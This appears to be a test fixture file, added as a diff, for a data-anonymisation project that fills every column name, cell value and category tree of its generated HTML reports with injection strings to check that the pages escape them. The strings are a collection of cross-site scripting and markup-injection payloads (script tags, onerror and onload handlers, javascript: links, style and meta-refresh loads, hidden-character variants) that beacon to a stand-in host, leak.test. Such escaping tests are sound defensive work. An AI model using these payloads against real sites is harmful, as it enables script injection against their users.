@@ -1,0 +1,139 @@
+"""Texts that want to run or to load something, put into every name and cell that a page can show."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import polars as pl
+
+import sfumato as sf
+
+RUN = "document.documentElement.dataset.ran=1;new Image().src='http://leak.test/ran'"
+PAYLOADS = (
+    f"<script>{RUN}</script>",
+    f'"><img src=http://leak.test/img onerror="{RUN}">',
+    f"</title></style></svg><script>{RUN}</script>",
+    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s /></svg>',
+    f"javascript:{RUN}",
+    "</style><style>body{background:url(http://leak.test/css)}</style>",
+    f"' onfocus='{RUN}' autofocus tabindex='1",
+    '<link rel="stylesheet" href="http://leak.test/sheet"><base href="http://leak.test/">',
+    '<meta http-equiv="refresh" content="0;url=http://leak.test/refresh">',
+    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
+    f"<scr\0ipt>\u202e\u200b{RUN}\ufeff</scr\0ipt>",
+    "]]><!--<iframe srcdoc='<script>parent.document.documentElement.dataset.ran=1</script>'></iframe>-->",
+    "{{ 7*7 }}{% raw %}${7*7}" + "W" * 3000 + f"<script>{RUN}</script>",
+)
+"""Scripts, handlers, styles, addresses, entities, characters that nobody sees, and very long names."""
+MANY = len(PAYLOADS)
+
+
+def tree() -> dict[str, Any]:
+    """A declared tree whose groups are payloads too."""
+    half = MANY // 2
+    return {"tree": {f"{PAYLOADS[0]}1": list(PAYLOADS[:half]), f"{PAYLOADS[1]}2": list(PAYLOADS[half:])}}
+
+
+def rows(each: int = 12) -> pl.DataFrame:
+    """Every payload as a value of every column, under names that are payloads."""
+    texts = [text for text in PAYLOADS for _ in range(each)]
+    count = len(texts)
+    return pl.DataFrame(
+        {
+            PAYLOADS[0]: texts,
+            PAYLOADS[1]: [PAYLOADS[n % MANY] for n in range(count)],
+            PAYLOADS[2]: [PAYLOADS[(n * 7) % MANY] if n % 5 else None for n in range(count)],
+            PAYLOADS[3]: [PAYLOADS[n % 2] for n in range(count)],
+            PAYLOADS[5]: [str(n % 90) for n in range(count)],
+            "keep": [PAYLOADS[(n * 3) % MANY] for n in range(count)],
+        }
+    )
+
+
+def table_plan(**algorithm: Any) -> dict[str, Any]:
+    return {
+        "input": {"missing": [PAYLOADS[7]]},
+        "columns": {
+            PAYLOADS[0]: {"role": "quasi", "hierarchy": tree()},
+            PAYLOADS[1]: {"role": "quasi", "hierarchy": {"kind": "flat"}},
+            PAYLOADS[2]: {"role": "sensitive"},
+            PAYLOADS[3]: {"role": "target"},
+            PAYLOADS[5]: {"role": "quasi", "hierarchy": {"kind": "grown", "low": 0, "high": 100}},
+            "keep": {"role": "keep"},
+        },
+        "privacy": {
+            "k_anonymity": 2,
+            "confidence": [{"quasi": [PAYLOADS[0]], "column": PAYLOADS[2], "value": PAYLOADS[4], "limit": 0.9}],
+        },
+        "algorithm": {"seed": 1, **algorithm},
+        "attack": {"trials": 50},
+    }
+
+
+def item_plan() -> dict[str, Any]:
+    return {
+        "columns": {
+            PAYLOADS[0]: {"role": "quasi", "type": "trajectory", "separator": "\u00a6", "hierarchy": tree()},
+            PAYLOADS[1]: {"role": "quasi", "type": "set", "separator": "\u00a6"},
+            PAYLOADS[2]: {"role": "sensitive"},
+            PAYLOADS[3]: {"role": "quasi", "hierarchy": {"kind": "flat"}},
+        },
+        "privacy": {"lkc": {"l": 1, "k": 2, "c": 0.9}},
+        "attack": {"trials": 50},
+    }
+
+
+def item_rows() -> pl.DataFrame:
+    """Paths through payloads, and sets of them."""
+    count = 8 * MANY
+
+    def some(n: int, mark: str = "") -> str:
+        picked = [PAYLOADS[n % MANY], PAYLOADS[(n + 3) % MANY], PAYLOADS[(n + 5) % MANY]]
+        timed = [f"{text}{mark}{hour}" if mark else text for hour, text in enumerate(picked)]
+        return "\u00a6".join(timed)
+
+    return pl.DataFrame(
+        {
+            PAYLOADS[0]: [some(n, "@") for n in range(count)],
+            PAYLOADS[1]: [some(n) for n in range(count)],
+            PAYLOADS[2]: [PAYLOADS[n % 4] for n in range(count)],
+            PAYLOADS[3]: [PAYLOADS[n % 2] for n in range(count)],
+        }
+    )
+
+
+def private_plan() -> dict[str, Any]:
+    return {
+        "columns": {
+            PAYLOADS[0]: {"role": "quasi", "hierarchy": tree()},
+            PAYLOADS[3]: {"role": "target", "values": [PAYLOADS[0], PAYLOADS[1]]},
+        },
+        "privacy": {"epsilon": 20},
+        "algorithm": {"name": "diffgen"},
+    }
+
+
+def pages(folder: Path) -> dict[str, str]:
+    """One page of every sort that the project writes, full of payloads."""
+    parse: Callable[[Any], Any] = sf.Plan.parse
+    table = sf.release(parse(table_plan(name="top-down")), rows())
+    items = sf.release(parse(item_plan()), item_rows())
+    private = sf.release(parse(private_plan()), rows())
+    grid = {**table_plan(), "frontier": {"jobs": 1, "algorithms": ["datafly"], "grid": {"privacy.k_anonymity": [2, 3]}}}
+    del grid["privacy"]["confidence"]
+    small = {**grid, "columns": {**grid["columns"], PAYLOADS[5]: {"role": "keep"}}}
+    sf.frontier(parse({**small, "attack": {"run": False}}), rows(4), folder=folder / "frontier")
+    from sfumato.workflow.walk import dimensions
+
+    return {
+        "table": table.report(),
+        "table-inside": table.report(inside=True),
+        "items": items.report(),
+        "items-inside": items.report(inside=True),
+        "private": private.report(),
+        "frontier": (folder / "frontier" / "frontier.html").read_text(),
+        "dimensions": dimensions(parse({**small, "attack": {"run": False}}), rows(4)).page(),
+        "card": f"<!DOCTYPE html><title>card</title>{table._repr_html_()}{items._repr_html_()}",
+    }
